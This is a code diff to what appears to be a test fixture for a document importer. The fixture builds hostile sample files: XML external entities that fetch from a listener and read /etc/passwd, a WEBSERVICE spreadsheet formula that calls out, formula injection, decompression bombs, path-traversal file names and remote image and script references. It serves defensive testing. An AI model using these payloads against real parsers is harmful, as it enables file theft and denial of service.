@@ -72,6 +72,11 @@ const files = (listener, full) => {
     'a bomb.xlsx': xlsx(`<worksheet ${SHEET}><sheetData><row><c t="inlineStr"><is><t>${'a'.repeat(big)}</t></is></c></row></sheetData></worksheet>`),
     'shared bomb.xlsx': xlsx(`<worksheet ${SHEET}><sheetData/></worksheet>`, `<sst ${SHEET}><si><t>${' '.repeat(big)}</t></si></sst>`),
     'far cells.xlsx': xlsx(`<worksheet ${SHEET}><sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData></worksheet>`),
+    'entities.xlsx': xlsx(
+      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "${listener}/sheet"><!ENTITY y SYSTEM "file:///etc/passwd">]><worksheet ${SHEET}><sheetData><row><c t="inlineStr"><is><t>Note &x; &y;</t></is></c></row></sheetData></worksheet>`,
+      `<?xml version="1.0"?><!DOCTYPE a SYSTEM "${listener}/strings.dtd"><sst ${SHEET}><si><t>Note</t></si></sst>`,
+    ),
+    'formulas.xlsx': xlsx(`<worksheet ${SHEET}><sheetData><row><c t="str"><f>WEBSERVICE("${listener}/formula")</f><v>Note</v></c><c t="inlineStr"><is><t>Room</t></is></c></row><row><c t="inlineStr"><is><t>=1+1</t></is></c><c t="inlineStr"><is><t>Room 1</t></is></c></row></sheetData></worksheet>`),
     'bomb.docx': docx(paragraph('a'.repeat(big))),
     'many parts.docx': docx(paragraph('a'), Object.fromEntries(Array.from({ length: full ? 60_000 : 5_000 }, (_, i) => [`word/${i}.xml`, '<a/>']))),
     'entity from a server.docx': docx(entity(`${listener}/xxe`)),
@@ -95,11 +100,11 @@ const files = (listener, full) => {
     '../../../../tmp/escaped.txt': '00:01:00\tA cook:\tOut of here\r\n',
     '..\\..\\escaped.txt': '00:01:00\tA cook:\tOut of here as well\r\n',
     [`${'long'.repeat(300)}.txt`]: '00:01:00\tA cook:\tA long name\r\n',
-    'deep.md': `${'> '.repeat(20_000)}deep\n${'['.repeat(20_000)}\n${'*a '.repeat(20_000)}`,
+    'deep.md': `# Room 1\n\n## Question 1: What helps?\n\n- Tea\n${'> '.repeat(20_000)}deep\n${'['.repeat(20_000)}\n${'*a '.repeat(20_000)}`,
     'empty.txt': '',
     'a calendar.txt': 'BEGIN:VCALENDAR\r\nATTACH:http://localhost/\r\nEND:VCALENDAR\r\n',
     'html.docx': `<html><img src="${listener}/pixel.png"><script src="${listener}/a.js"></script></html>`,
-    'picture.md': `![see](${listener}/markdown.png)\n\n<img src="${listener}/html.png">\n`,
+    'picture.md': `# Room 1\n\n## Question 1: What helps?\n\n- Tea\n\n- ![see](${listener}/markdown.png)\n\n<img src="${listener}/html.png">\n`,
   };
 };
 
